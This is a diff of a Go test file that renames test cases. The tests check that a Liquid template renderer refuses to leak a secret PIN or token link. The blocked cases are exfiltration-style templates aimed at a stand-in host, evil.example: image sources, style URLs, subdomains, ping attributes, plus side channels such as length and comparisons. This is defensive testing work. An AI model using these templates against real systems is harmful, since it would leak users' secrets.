@@ -17,30 +17,30 @@ var _ = Describe("A secret", func() {
 		Entry("between spaces", liquid.Plain, "Your pin:\n  {{ pin }}\n{{ link }} {{- ' ' }}{{ x }}", "Your pin:\n  481920\nhttps://a.example/r#token=t&x x"),
 		Entry("in an element", liquid.HTML, "<b>{{ pin }}</b> {{ link }} <i>", "<b>481920</b> https://a.example/r#token=t&amp;x <i>"),
 		Entry("as a link", liquid.HTML, `<a class="b" href="{{ link }}">x</a><A HREF='{{ link }}'>`, `<a class="b" href="https://a.example/r#token=t&amp;x">x</a><A HREF='https://a.example/r#token=t&amp;x'>`),
-		Entry("where it was assigned, and asked for", liquid.HTML, "{% if pin %}{% assign y = pin %}{{ y }}{% endif %}", "481920"),
+		Entry("if it was assigned and tested", liquid.HTML, "{% if pin %}{% assign y = pin %}{{ y }}{% endif %}", "481920"),
 	)
 
-	DescribeTable("cannot be loaded, clicked or counted", func(form liquid.Form, source string) {
+	DescribeTable("cannot be loaded, clicked or measured through", func(form liquid.Form, source string) {
 		out, err := rendered(source, data, form)
 		Expect(err).To(MatchError(ContainSubstring("This is a secret")), out)
 		Expect(err.Error()).NotTo(ContainSubstring("4819"))
 	},
-		Entry("the address of a picture", liquid.HTML, `<img src="https://evil.example/{{ pin }}">`),
-		Entry("the whole address of a picture", liquid.HTML, `<img src="{{ link }}">`),
+		Entry("a part of an image's URL", liquid.HTML, `<img src="https://evil.example/{{ pin }}">`),
+		Entry("the whole URL of an image", liquid.HTML, `<img src="{{ link }}">`),
 		Entry("another attribute of a link", liquid.HTML, `<a ping="{{ link }}">`),
-		Entry("what ends like one", liquid.HTML, `<a data-href="{{ link }}">`),
-		Entry("a part of the address of a link", liquid.HTML, `<a href="https://evil.example/?{{ link }}">`),
-		Entry("the beginning of the address of a link", liquid.HTML, `<a href="{{ link }}x">`),
-		Entry("a style", liquid.HTML, `<b style="background:url(https://evil.example/{{ pin }})">`),
+		Entry("an attribute whose name ends in href", liquid.HTML, `<a data-href="{{ link }}">`),
+		Entry("the end of a link's URL", liquid.HTML, `<a href="https://evil.example/?{{ link }}">`),
+		Entry("the beginning of a link's URL", liquid.HTML, `<a href="{{ link }}x">`),
+		Entry("a style attribute", liquid.HTML, `<b style="background:url(https://evil.example/{{ pin }})">`),
 		Entry("a comment", liquid.HTML, `<!-- {{ pin }} -->`),
-		Entry("an address in a text", liquid.Plain, "https://evil.example/{{ pin }}"),
+		Entry("a URL in a text", liquid.Plain, "https://evil.example/{{ pin }}"),
 		Entry("a host in a text", liquid.Plain, "{{ pin }}.evil.example"),
-		Entry("two in one", liquid.Plain, "{{ pin }}{{ pin }}"),
-		Entry("an address in an element", liquid.HTML, "<b>https://evil.example/{{ pin }}</b>"),
+		Entry("a second copy", liquid.Plain, "{{ pin }}{{ pin }}"),
+		Entry("a URL in an element", liquid.HTML, "<b>https://evil.example/{{ pin }}</b>"),
 		Entry("a capture", liquid.HTML, `{% capture y %}{{ pin }}{% endcapture %}<img src="{{ y }}">`),
 		Entry("a filter", liquid.HTML, `<img src="{{ pin | append: '' }}">`),
-		Entry("the values of a filter", liquid.HTML, "{{ x | replace: 'x', pin }}"),
-		Entry("its first digit", liquid.HTML, "{{ pin | slice: 0 }}"),
+		Entry("the arguments of a filter", liquid.HTML, "{{ x | replace: 'x', pin }}"),
+		Entry("a part of its digits", liquid.HTML, "{{ pin | slice: 0 }}"),
 		Entry("its length", liquid.HTML, "{{ pin | size }}"),
 		Entry("a comparison", liquid.HTML, "{% if pin > 500000 %}{% endif %}"),
 		Entry("a guess", liquid.HTML, "{% if pin contains '48' %}{% endif %}"),
